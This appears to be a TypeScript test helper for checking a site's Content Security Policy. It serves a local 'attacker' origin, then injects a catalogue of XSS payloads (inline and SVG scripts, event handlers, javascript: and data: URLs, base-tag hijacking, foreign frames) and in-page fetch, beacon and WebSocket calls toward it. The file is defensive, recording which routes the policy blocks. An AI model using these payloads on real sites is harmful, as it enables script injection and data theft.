import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A server of a test, on an origin of its own. */
export interface Served {
  /** Where it answers, without trailing slash. */
  address: string;
  stop(): void;
}

/** Somebody else's server, which notes what reaches it. */
export interface Attacker extends Served {
  /** The first part of each path that was asked for. */
  reached: Set<string>;
}

async function listen(server: Server): Promise<Served> {
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    address: `http://localhost:${port}`,
    stop: () => {
      server.close();
      server.closeAllConnections();
    },
  };
}

/** Starts it; anybody may read its answers. */
export async function startAttacker(): Promise<Attacker> {
  const reached = new Set<string>();
  const note = (url = '') => reached.add(url.split('/')[1] ?? '');
  const server = createServer((request, response) => {
    note(request.url);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader(
      'Content-Type',
      /script|import/.test(request.url ?? '') ? 'text/javascript' : 'text/html',
    );
    response.end();
  });
  server.on('upgrade', (request, socket) => {
    note(request.url);
    socket.destroy();
  });
  return { ...(await listen(server)), reached };
}

/** Attacks that somebody can write into a page who gets HTML into it, by name. */
const markup = (attacker: string): Record<string, string> => ({
  'inline-script': `<script>happened('inline-script')</script>`,
  'inline-module': `<script type="module">happened('inline-module')</script>`,
  'event-handler': `<img src="/falta.png" alt="" onerror="happened('event-handler')">`,
  'svg-handler': `<svg onload="happened('svg-handler')"></svg>`,
  'svg-script': `<svg><script>happened('svg-script')</script></svg>`,
  'data-script': `<script src="data:text/javascript,happened('data-script')"></script>`,
  'foreign-script': `<script src="${attacker}/foreign-script"></script>`,
  'srcdoc-frame': `<iframe srcdoc="<script>parent.happened('srcdoc-frame')</script>"></iframe>`,
  'data-frame': `<iframe src="data:text/html,<script>parent.postMessage('data-frame','*')</script>"></iframe>`,
  'javascript-frame': `<iframe src="javascript:parent.happened('javascript-frame')"></iframe>`,
  'foreign-frame': `<iframe src="${attacker}/foreign-frame"></iframe>`,
  object: `<object data="${attacker}/object"></object>`,
  embed: `<embed src="${attacker}/embed">`,
  'foreign-style': `<link rel="stylesheet" href="${attacker}/foreign-style">`,
  'inline-style': `<style>#inline-style { color: rgb(1, 2, 3) }</style><p id="inline-style"></p>`,
  'style-attribute': `<p id="style-attribute" style="color: rgb(1, 2, 3)"></p>`,
  'foreign-image': `<img src="${attacker}/foreign-image" alt="">`,
  'foreign-media': `<video src="${attacker}/foreign-media" preload="auto"></video>`,
  prefetch: `<link rel="prefetch" href="${attacker}/prefetch">`,
  preload: `<link rel="preload" as="fetch" crossorigin href="${attacker}/preload">`,
  'javascript-link': `<a id="javascript-link" href="javascript:happened('javascript-link')"></a>`,
  form: `<form id="form" action="${attacker}/form" method="post" target="_blank"></form>`,
  // The last: whatever address comes after it would be another.
  base: `<base href="${attacker}/base/">`,
});

/**
 * Attacks by code that runs in the page already, from a file of the site's own origin. Runs in the
 * browser, before what it watches: it notes on the document's element what happened, and what has
 * not come to its end yet.
 */
function attackInside(attacker: string): void {
  const state = document.documentElement.dataset;
  const names: string[] = [];
  const happened = (name: string) => {
    names.push(name);
    state['happened'] = names.join(' ');
  };
  Object.assign(window, { happened });
  addEventListener('message', ({ data }) => {
    if (data === 'data-frame') happened(data);
  });

  const refused: string[] = [];
  addEventListener('securitypolicyviolation', ({ blockedURI }) => refused.push(blockedURI));
  /** Settles once the browser has said of one more thing, or of this one, that it was refused. */
  const refusal = (name = '', since = 0) =>
    new Promise<void>((resolve) => {
      const look = () => {
        if (refused.slice(since).some((address) => address.endsWith(name))) resolve();
        else setTimeout(look, 10);
      };
      look();
    });
  const failure = (target: EventTarget) =>
    new Promise((resolve) => target.addEventListener('error', resolve));
  const blob = (code: string) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
  /** Settles once it happened. */
  const success = (name: string) =>
    new Promise<void>((resolve) => {
      const look = () => (names.includes(name) ? resolve() : setTimeout(look, 10));
      look();
    });
  const byId = (id: string) => document.getElementById(id) as HTMLElement;
  const addScript = (more: Partial<HTMLScriptElement>) => {
    const script = Object.assign(document.createElement('script'), more);
    const failed = failure(script);
    document.body.append(script);
    return more.src ? failed : undefined;
  };
  const colourOf = (name: string) => {
    if (getComputedStyle(byId(name)).color === 'rgb(1, 2, 3)') happened(name);
  };

  const attacks: Record<string, () => unknown> = {
    'inline-style': () => colourOf('inline-style'),
    'style-attribute': () => colourOf('style-attribute'),
    base: () => {
      if (new URL(document.baseURI).origin !== location.origin) happened('base');
    },
    prefetch: () => refusal('/prefetch'),
    preload: () => refusal('/preload'),
    eval: () => (0, eval)(`happened('eval')`),
    'new-function': () => new Function(`happened('new-function')`)(),
    'timer-text': () => {
      setTimeout(`happened('timer-text')`);
      return new Promise((resolve) => setTimeout(resolve));
    },
    'script-element': () => addScript({ text: `happened('script-element')` }),
    'blob-script': () => addScript({ src: blob(`happened('blob-script')`) }),
    'blob-worker': () => {
      const worker = new Worker(blob('postMessage(1)'));
      worker.onmessage = () => happened('blob-worker');
      return failure(worker);
    },
    'import-data': () => {
      const address = `data:text/javascript,happened('import-data')`;
      return import(address);
    },
    'import-foreign': () => import(`${attacker}/import-foreign`),
    'html-sink': () => {
      const element = document.createElement('p');
      element.innerHTML = `<img src="/falta.png" alt="" onerror="happened('html-sink')">`;
      return failure(element.firstChild as Element);
    },
    fetch: () => fetch(`${attacker}/fetch`, { mode: 'no-cors' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${attacker}/xhr`);
      request.send();
      return failure(request);
    },
    beacon: () => {
      navigator.sendBeacon(`${attacker}/beacon`);
      return refusal('/beacon');
    },
    socket: () => failure(new WebSocket(`${attacker.replace('http', 'ws')}/socket`)),
    'event-source': () => failure(new EventSource(`${attacker}/event-source`)),
    font: () => new FontFace('x', `url(${attacker}/font)`).load(),
    form: () => {
      (byId('form') as HTMLFormElement).submit();
      return refusal('/form');
    },
  };

  addEventListener('load', async () => {
    // The first, and alone: what is said of it doesn't name it.
    const since = refused.length;
    byId('javascript-link').click();
    await Promise.race([refusal('', since), success('javascript-link')]);

    const pending = new Set(Object.keys(attacks));
    for (const [name, attack] of Object.entries(attacks)) {
      void Promise.resolve()
        .then(attack)
        .catch(() => 'refused by an error')
        .then(() => {
          pending.delete(name);
          state['pending'] = [...pending].join(' ');
        });
    }
  });
}

/** The names of what only code can do: the rest stands in the markup. */
const byCode = [
  'eval',
  'new-function',
  'timer-text',
  'script-element',
  'blob-script',
  'blob-worker',
  'import-data',
  'import-foreign',
  'html-sink',
  'fetch',
  'xhr',
  'beacon',
  'socket',
  'event-source',
  'font',
];

/** The names of all attacks from inside. */
export const attackNames: readonly string[] = [...Object.keys(markup('')), ...byCode];

/** A script file of the site's own origin that somebody else wrote. */
const SCRIPT_PATH = '/ataque.js';

const POLICY = /<meta http-equiv="content-security-policy"[^>]*>/;

/** A page as somebody would leave it who got HTML, and that script, into it. */
const attackedPage = (html: string, attacker: string) =>
  html.replace(
    '</body>',
    () =>
      `<script src="${SCRIPT_PATH}"></script>${Object.values(markup(attacker)).join('\n')}</body>`,
  );

/**
 * Serves the site at `host` again with the attacks in its page at `path`: between the two, not in
 * the browser, which lets a page that comes from nowhere reach no server of this machine.
 * @param isProtected whether the host's headers and the page's own policy stay in force
 */
export function startAttackedSite(
  host: string,
  path: string,
  attacker: string,
  isProtected: boolean,
): Promise<Served> {
  const script = `(${attackInside.toString()})(${JSON.stringify(attacker)})`;

  const server = createServer(async (request, response) => {
    if (request.url === SCRIPT_PATH) {
      response.setHeader('Content-Type', 'text/javascript');
      return response.end(script);
    }
    const answer = await fetch(`${host}${request.url ?? ''}`, { redirect: 'manual' });
    response.statusCode = answer.status;
    for (const [name, value] of answer.headers) {
      const isOfBytes = /^(content-(length|encoding)|transfer-encoding|connection)$/.test(name);
      if (!isOfBytes && (isProtected || name === 'content-type')) response.setHeader(name, value);
    }
    if (request.url !== path) return response.end(Buffer.from(await answer.arrayBuffer()));
    const page = attackedPage(await answer.text(), attacker);
    return response.end(isProtected ? page : page.replace(POLICY, ''));
  });
  return listen(server);
}
